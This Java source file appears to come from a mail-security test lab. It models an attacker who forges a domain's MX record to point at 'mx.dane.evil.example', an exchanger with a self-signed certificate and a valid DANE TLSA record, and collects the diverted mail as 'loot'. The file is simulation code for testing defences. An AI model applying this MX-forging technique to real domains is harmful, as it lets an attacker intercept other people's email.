package org.postroad.lab.attacker;

import java.util.List;
import org.postroad.lab.LabInternet;
import org.postroad.lab.ca.Credential;
import org.postroad.lab.ca.Leaf;
import org.postroad.lab.ca.Tlsa;
import org.postroad.lab.dns.Interference;
import org.postroad.lab.mx.LabMx;
import org.postroad.lab.mx.ReceivedMail;
import org.postroad.lab.net.Answering;
import org.postroad.lab.net.Journal;
import org.postroad.lab.net.Mounted;
import org.postroad.lab.net.Quarter;
import org.postroad.lab.zone.Zone;
import org.postroad.protocol.dns.RecordType;

/// In the DNS of a domain that is not signed: names an exchanger of his own, whose zone is signed
/// and whose TLSA record is right. Who takes "the host passes DANE" for security (RFC 7672 §2.2.1)
/// hands the mail over, policy or not. He needs no certificate that anybody trusts.
///
/// @param host his exchanger; its parent domain becomes a signed zone of his
public record DaneMxForger(String domain, String host) implements Attacker {

  /// With the exchanger `mx.dane.evil.example`.
  public DaneMxForger(String domain) {
    this(domain, "mx.dane." + Forgery.EVIL);
  }

  @Override
  public String name() {
    return "mx-hijack-dane";
  }

  @Override
  public Mounted mount(LabInternet internet, Journal<ReceivedMail> loot) {
    String zone = host.substring(host.indexOf('.') + 1);
    if (!internet.dns().isOrigin(zone)) {
      internet.dns().zone(Zone.of(zone, "").signed());
    }
    Credential credential = internet.ca().issue(Leaf.of(host).selfSigned());
    LabMx own = new LabMx(host, credential, loot);
    Mounted served =
        Road.divert(
            internet.doorsFor(host, LabInternet.SMTP, Quarter.ATTACKERS),
            door -> new Answering.Serves(own));
    internet.tlsa(host, Tlsa.ee(credential));
    Mounted forged =
        internet.dns().interfere(domain, RecordType.MX, Interference.forged("10 " + host));
    return Mounted.all(List.of(served, forged));
  }
}
